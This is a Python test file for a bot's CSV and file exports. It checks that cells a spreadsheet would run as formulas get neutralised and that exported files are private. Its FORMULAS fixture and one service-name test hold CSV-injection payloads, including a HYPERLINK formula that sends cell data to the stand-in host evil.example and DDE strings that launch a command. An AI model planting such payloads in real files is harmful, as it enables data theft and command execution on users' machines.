"""Exports that cannot run, and paths that mean what they say (issue 23): every CSV the bot
writes neutralises cells a spreadsheet would run as a formula while numbers stay numbers;
files written without --out are 0600; --out names a folder or a file as written."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot import csvsafe
from bot.cli import main
from bot.config import PROJECT_ROOT
from bot.export import write_audits, write_scores_csv
from tests.conftest import IN_WINDOW, bundled_store_at

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
R1 = "stockton-on-tees-sqs-2013:R1"


# --- the rule -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [17, -3, 85.0, -12.5, "-12.5", "+3", "1e5", "2014-01-30", "30/01/2014", "", None, True,
     "case 7: review late", "R1", "-", "note - with dash"],
)  # fmt: skip
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    if value == "-":
        assert csvsafe.cell(value) == "'-"  # not a number: quoted, harmlessly
        return
    assert csvsafe.cell(value) == value


def test_a_written_row_reads_back_with_numbers_as_numbers():
    stream = io.StringIO()
    csvsafe.writer(stream).writerow([*FORMULAS, -3, 85.5, "-12.5"])
    [cells] = list(csv.reader(io.StringIO(stream.getvalue())))
    assert cells[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert cells[len(FORMULAS) :] == ["-3", "85.5", "-12.5"]


# --- every CSV the bot writes -------------------------------------------------------------


def _add_audits(db, notes: list[str]) -> None:
    db.conn.executemany(
        "INSERT INTO audit_updates (recommendation_id, audit_date, audited, compliant, "
        "percent, note, user_id, user_name, via, delivery_key, recorded_at, platform) "
        "VALUES (?, '2014-02-10', 20, 17, 85.0, ?, 'U0AUD', ?, 'command', ?, "
        "'2014-02-20T10:00:00+00:00', 'slack')",
        [(R1, note, note, f"k{n}") for n, note in enumerate(notes)],
    )
    db.conn.commit()


def test_the_audits_export_writes_formula_notes_and_names_as_text(db):
    _add_audits(db, [*FORMULAS, "-5"])
    stream = io.StringIO()
    write_audits(db, stream, "csv")
    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert [r["note"] for r in rows] == ["'" + f for f in FORMULAS] + ["-5"]
    assert [r["user_name"] for r in rows[: len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert {(r["compliant"], r["audited"], r["percent"], r["audit_date"]) for r in rows} == {
        ("17", "20", "85.0", "2014-02-10")
    }


def test_the_inspections_export_writes_a_formula_service_name_as_text(db):
    evil = '=HYPERLINK("http://evil.example/","Stockton")'
    db.execute("UPDATE services SET name = ? WHERE id = 'stockton-on-tees'", [evil])
    stream = io.StringIO()
    write_scores_csv(db, stream)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert not any(r["service"].startswith(tuple("=+-@\t\r")) for r in rows)
    assert "'" + evil in {r["service"] for r in rows}
    scores = [r["score"] for r in rows if r["score"]]
    assert scores and all(float(s) >= 0 for s in scores)  # still plain numbers


@pytest.fixture
def cli_env(tmp_path, monkeypatch, bundled_store):
    bundled_store_at(tmp_path / "yos.db", bundled_store)
    monkeypatch.setenv("YOS_DB", str(tmp_path / "yos.db"))
    monkeypatch.setenv("YOS_TODAY", IN_WINDOW.isoformat())
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()

    def run(*args: str) -> str:
        result = runner.invoke(main, list(args))
        assert result.exit_code == 0, result.output
        return result.output

    return run


def test_the_report_csv_writes_a_formula_from_the_data_as_text(cli_env, tmp_path):
    import sqlite3

    cli_env("ask", "audit R1 17/20 18/02/2014 February audit")
    with sqlite3.connect(tmp_path / "yos.db") as conn:
        conn.execute("UPDATE recommendations SET ref = '=1+2' WHERE id = ?", [R1])
    cli_env("report", "--format", "csv", "--out", "pack/")
    [written] = (tmp_path / "pack").iterdir()
    rows = list(csv.DictReader(io.StringIO(written.read_text(), newline="")))
    assert {r["recommendation"] for r in rows} == {"'=1+2"}
    counted = [r for r in rows if r["compliant"]]
    assert (counted[0]["compliant"], counted[0]["audited"], counted[0]["percent"]) == (
        "17",
        "20",
        "85.0",
    )
    assert {r["target"] for r in rows} == {"80"}


# --- paths and modes ----------------------------------------------------------------------


def _mode(path: Path) -> str:
    return oct(stat.S_IMODE(path.stat().st_mode))


def test_export_out_ending_in_a_separator_writes_inside_a_new_private_folder(cli_env, tmp_path):
    said = cli_env("export", "audits", "--format", "csv", "--out", "exports/")
    written = tmp_path / "exports" / "audits.csv"
    assert written.is_file() and str(written.relative_to(tmp_path)) in said
    assert (_mode(written), _mode(tmp_path / "exports")) == ("0o600", "0o700")


def test_export_out_naming_an_existing_folder_writes_inside_it(cli_env, tmp_path):
    (tmp_path / "existing").mkdir()
    cli_env("export", "--format", "json", "--out", "existing")
    assert (tmp_path / "existing" / "inspections.json").is_file()
    assert _mode(tmp_path / "existing" / "inspections.json") == "0o600"


def test_export_out_naming_a_file_writes_that_file(cli_env, tmp_path):
    cli_env("export", "audits", "--format", "jsonl", "--out", "audits")
    assert (tmp_path / "audits").is_file() and _mode(tmp_path / "audits") == "0o600"


def test_export_to_a_shell_redirect_is_private_whatever_the_umask(tmp_path):
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "YOS_", "TEAMS_"))},
        "YOS_DB": str(tmp_path / "yos.db"),
        "YOS_TODAY": IN_WINDOW.isoformat(),
    }
    target = tmp_path / "audits.csv"
    subprocess.run(
        [
            "sh",
            "-c",
            f'umask 000; "{sys.executable}" -m bot export audits --format csv > "{target}"',
        ],
        cwd=PROJECT_ROOT,
        env=env,
        check=True,
        timeout=120,
    )
    assert target.read_text().startswith("id,recommendation,")
    assert _mode(target) == "0o600"


def test_report_png_out_naming_a_file_writes_the_chart_there(cli_env, tmp_path):
    cli_env("report", "R1", "--format", "png", "--out", "chart.png")
    chart = tmp_path / "chart.png"
    assert chart.is_file() and chart.read_bytes().startswith(b"\x89PNG")
    assert _mode(chart) == "0o600"


def test_report_several_formats_into_a_file_name_is_refused_and_makes_nothing(cli_env, tmp_path):
    result = CliRunner().invoke(
        main, ["report", "--format", "md", "--format", "csv", "--out", "x.md"]
    )
    assert result.exit_code != 0 and "names a file" in result.output
    assert not (tmp_path / "x.md").exists()


def test_report_without_out_writes_private_files_in_reports(cli_env, tmp_path):
    cli_env("report", "--format", "md")
    [written] = (tmp_path / "reports").iterdir()
    assert (_mode(written), _mode(tmp_path / "reports")) == ("0o600", "0o700")


def test_the_rule_is_one_module_any_layer_can_use():
    import ast

    tree = ast.parse((PROJECT_ROOT / "bot" / "csvsafe.py").read_text())
    imported = {
        (node.module if isinstance(node, ast.ImportFrom) else alias.name).split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import | ast.ImportFrom)
        for alias in node.names
    }
    assert imported <= set(sys.stdlib_module_names) | {"__future__"}
